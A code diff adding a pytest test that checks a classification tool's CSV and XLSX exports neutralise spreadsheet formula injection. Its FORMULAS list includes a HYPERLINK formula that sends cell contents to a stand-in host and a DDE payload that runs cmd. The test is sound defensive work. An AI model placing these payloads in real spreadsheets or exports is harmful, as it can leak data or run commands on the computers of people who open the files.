@@ -197,3 +197,24 @@ def test_score_batch_is_the_pure_core(model_dir):
     assert [list(r) for r in recs] == [[f"p_{lab}" for lab in LABELS] + ["labels", "priority", "evidence"]] * 2
     assert "money_politics" in recs[0]["labels"].split(";") and "0812" not in recs[0]["evidence"]
     assert score_batch(predictor, [], Policy()) == []
+
+
+FORMULAS = ["=1+1", '=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def test_formula_cells_are_neutralised_in_csv_and_xlsx(tmp_path, model_dir):
+    inp = tmp_path / "in.jsonl"
+    inp.write_text("".join(json.dumps({"id": f, "text": f + " kades bagi amplop", "n": "-5"}) + "\n" for f in FORMULAS), encoding="utf-8")
+    assert run(model_dir, inp, tmp_path / "out.csv") == 0
+    rows = read_csv(tmp_path / "out.csv")
+    assert [r["id"] for r in rows] == ["'" + f for f in FORMULAS] and rows[0]["text"].startswith("'=")
+    assert rows[0]["n"] == "-5"  # a plain number is not a formula and keeps its value
+    assert run(model_dir, inp, tmp_path / "out.xlsx") == 0
+    import zipfile
+
+    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml
+    values = [c.value for c in openpyxl.load_workbook(tmp_path / "out.xlsx").active["A"]][1:]
+    assert values[:6] == FORMULAS[:6]  # stored as text, unchanged (XML turns the lone CR into LF)
+    assert run(model_dir, inp, tmp_path / "raw.csv", "--allow-formulas") == 0
+    assert read_csv(tmp_path / "raw.csv")[0]["id"] == "=1+1"
